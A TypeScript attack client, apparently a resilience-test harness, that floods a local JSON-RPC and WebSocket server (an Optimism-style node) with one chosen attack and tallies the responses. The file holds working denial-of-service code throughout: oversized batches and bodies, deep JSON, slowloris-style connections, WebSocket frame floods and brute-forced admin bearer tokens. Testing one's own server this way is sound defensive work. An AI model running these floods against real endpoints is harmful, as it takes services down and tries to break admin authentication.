/**
 * A hostile client of the JSON-RPC: `node rpc-attacker.ts ORDER`, with an order in JSON. Prints all answers as JSON.
 */
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { Agent, request } from 'undici'
import type { RpcAttack, RpcOrder } from './rpc-attack.ts'

const order = JSON.parse(process.argv[2] ?? '') as RpcOrder
const { adminPort, localAddress, port } = order
const dispatcher = new Agent({ localAddress, connections: 300 })
const mebibyte = 1024 * 1024
const answers = new Map<string, number>()
let sent = 0

let endMs = 0
const isOver = () => performance.now() >= endMs

/** Starts the clock of the attack. */
function begin(): void {
  endMs = performance.now() + order.forMs
}

begin()

function note(answer: string): void {
  answers.set(answer, (answers.get(answer) ?? 0) + 1)
}

/** Notes the statuses and error codes in a text that the server sent. */
function noteAll(text: string): void {
  for (const [, status, code, close] of text.matchAll(
    /HTTP\/1\.1 (\d{3})|"code":(-\d+)|\u0088.(..)/gsu,
  ))
    note(status ?? code ?? `closed with ${Buffer.from(close ?? '', 'latin1').readUInt16BE()}`)
}

interface Reading {
  readonly isRead?: boolean
}

/** A connection whose answers are noted. */
async function open({
  to = port,
  isRead = true,
}: Reading & { readonly to?: number } = {}): Promise<Socket> {
  const socket = connect({ host: '127.0.0.1', port: to, localAddress })
  const opened = once(socket, 'connect')
  socket.on('error', () => undefined).once('close', () => note('closed'))
  if (isRead) socket.on('data', (data) => noteAll(data.toString('latin1')))
  await opened
  return socket
}

/** The head of an HTTP request. `length` may be larger than the body. */
function head(length: number | 'chunked'): string {
  const size = length === 'chunked' ? 'transfer-encoding: chunked' : `content-length: ${length}`
  return `POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n${size}\r\n\r\n`
}

function call(method: string, params: unknown = []): string {
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })
}

const batch = (calls: number, one: string) => `[${Array.from({ length: calls }, () => one).join()}]`

/** Writes as fast as the server reads, until the time is over or the connection ends. */
async function write(socket: Socket, data: string | Buffer): Promise<void> {
  sent++
  if (socket.destroyed || socket.write(data)) return
  await Promise.race([
    once(socket, 'drain'),
    once(socket, 'close'),
    sleep(Math.max(1, endMs - performance.now())),
  ])
}

/** Limit on the requests or connections of an attack per second. One machine can send this number over a network. */
const maxPerSecond = 2_000

/** Runs a number of loops concurrently. Each loop repeats an action until the time is over. */
async function flood(loops: number, act: () => Promise<unknown>): Promise<void> {
  const periodMs = (1_000 * loops) / maxPerSecond
  const one = async () => {
    while (!isOver()) {
      const nextMs = performance.now() + periodMs
      await act().catch((error: unknown) => note(error instanceof Error ? 'failed' : 'thrown'))
      await sleep(Math.max(0, nextMs - performance.now()))
    }
  }
  await Promise.all(Array.from({ length: loops }, one))
}

/** Posts a body and notes the answer. */
async function post(
  body: string,
  { to = port, headers = {} }: { readonly to?: number; readonly headers?: object } = {},
): Promise<void> {
  sent++
  try {
    const { statusCode, body: answer } = await request(`http://127.0.0.1:${to}/`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body,
      dispatcher,
    })
    const text = await answer.text()
    const [, code] = /"code":(-\d+)/u.exec(text) ?? []
    note(code === undefined ? String(statusCode) : `${statusCode} ${code}`)
  } catch (error) {
    note('closed')
    throw error
  }
}

/** Posts one body again and again, in concurrent loops. */
const posts = (loops: number, make: () => string) => () => {
  const body = make()
  begin()
  return flood(loops, () => post(body))
}

/** Opens a WebSocket without a library. */
async function openSocket({ isRead = true }: Reading = {}): Promise<Socket> {
  const socket = await open({ isRead })
  const lines = [
    'GET / HTTP/1.1',
    'host: 127.0.0.1',
    'connection: Upgrade',
    'upgrade: websocket',
    'sec-websocket-version: 13',
    'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
    'sec-websocket-extensions: permessage-deflate',
  ]
  socket.write(`${lines.join('\r\n')}\r\n\r\n`)
  await Promise.race([once(socket, isRead ? 'data' : 'readable'), once(socket, 'close')])
  return socket
}

/** A masked frame. @param first the flags and the opcode */
function frame(first: number, data: Buffer, length = data.length): Buffer {
  if (length < 126) return Buffer.concat([Buffer.from([first, 0x80 | length, 0, 0, 0, 0]), data])
  const size = Buffer.alloc(14)
  size.set([first, 0x80 | 127])
  size.writeBigUInt64BE(BigInt(length), 2)
  return Buffer.concat([size, data])
}

const text = (body: string) => frame(0x81, Buffer.from(body))

/** Repeats an action on each of many WebSockets. Each closed WebSocket is replaced by a new one. */
const sockets =
  (count: number, act: (socket: Socket) => Promise<unknown>, reading?: Reading) => () =>
    flood(count, async () => {
      const socket = await openSocket(reading)
      while (!socket.destroyed && !isOver()) await act(socket)
      socket.destroy()
    })

/** Writes one frame again and again. */
const frames = (count: number, data: Buffer, reading?: Reading) =>
  sockets(count, (socket) => write(socket, data), reading)

/** Holds many connections open, and sends some text on each of them once per second. */
const held = (count: number, first: (at: number) => string, next: (at: number) => string) =>
  flood.bind(undefined, count, async () => {
    const at = sent++
    const socket = await open()
    if (first(at) !== '') socket.write(first(at))
    while (!socket.destroyed && !isOver()) {
      await sleep(1_000)
      if (next(at) !== '' && socket.writable) socket.write(next(at))
    }
    socket.destroy()
  })

/** In each of many loops, opens a connection and writes to it without end. */
const streams = (count: number, first: string, next: string) => () =>
  flood(count, async () => {
    const socket = await open()
    await write(socket, first)
    while (!socket.destroyed && !isOver()) await write(socket, next)
    socket.destroy()
  })

const costly = call('optimism_outputAtBlock', ['0x5'])
const chunk = `${(64 * 1024).toString(16)}\r\n${' '.repeat(64 * 1024)}\r\n`

const acts: Readonly<Record<RpcAttack, () => Promise<unknown>>> = {
  'giant-batches': posts(20, () => batch(5_000, call('optimism_version'))),
  'costly-batches': posts(150, () => batch(1_000, costly)),
  'large-bodies': streams(50, head(40 * mebibyte), 'x'.repeat(64 * 1024)),
  'chunked-bodies': streams(50, head('chunked'), chunk),
  'deep-json': posts(100, () => '['.repeat(500_000)),
  'wide-json': posts(50, () =>
    call(
      'optimism_version',
      Array.from({ length: 250_000 }, () => []),
    ),
  ),
  'slow-bodies': held(
    300,
    () => head(1_000),
    () => ' ',
  ),
  'idle-connections': held(
    3_000,
    (at) => (at % 2 === 0 ? '' : 'POST / HTTP/1.1\r\nhost: x\r\n'),
    (at) => (at % 2 === 0 ? '' : 'x: y\r\n'),
  ),
  'endless-headers': streams(50, 'POST / HTTP/1.1\r\n', `x: ${'y'.repeat(1_000)}\r\n`.repeat(20)),
  pipelined: streams(20, '', `${head(costly.length)}${costly}`.repeat(200)),
  aborts: () =>
    flood(100, async () => {
      const socket = await open()
      await write(socket, `${head(costly.length)}${costly}`)
      socket.resetAndDestroy()
    }),
  'unread-answers': () =>
    flood(150, async () => {
      const socket = await open({ isRead: false })
      const body = batch(1_000, call('optimism_rollupConfig'))
      await write(socket, `${head(body.length)}${body}`)
      while (!socket.destroyed && !isOver()) await sleep(100)
      socket.destroy()
    }),
  subscriptions: frames(1, text(call('ws_subscribe_unsafe_head'))),
  'many-sockets': sockets(1_000, async (socket) => {
    for (let made = 0; made < 10; made++)
      await write(socket, text(call('ws_subscribe_unsafe_head')))
    await sleep(1_000)
  }),
  // Three sockets, so that each reaches the limit of a socket before all together reach the limit of a client.
  'unread-messages': frames(3, text(batch(100, call('optimism_rollupConfig'))), { isRead: false }),
  'huge-frames': frames(50, frame(0x81, Buffer.alloc(mebibyte), 40 * mebibyte)),
  // The length of each frame is within the limit. The last bytes of a frame are never sent.
  'unfinished-frames': sockets(90, async (socket) => {
    await write(socket, frame(0x81, Buffer.alloc(mebibyte - 100), mebibyte - 50))
    while (!socket.destroyed && !isOver()) await sleep(100)
  }),
  'compressed-frames': frames(20, frame(0xc1, Buffer.alloc(1_000))),
  pings: frames(80, frame(0x89, Buffer.alloc(125)), { isRead: false }),
  'wrong-tokens': () =>
    flood(100, () =>
      post(call('admin_resetDerivationPipeline'), {
        to: adminPort,
        headers: { authorization: `Bearer ${String(sent).padStart(64, '0')}` },
      }),
    ),
  'unknown-methods': () => flood(100, () => post(call(`eth_${sent}`))),
  'costly-calls': posts(200, () => costly),
}

await Promise.race([acts[order.attack](), sleep(order.forMs + 1_000)])
console.log(JSON.stringify({ sent, answers: Object.fromEntries(answers) }))
process.exit()
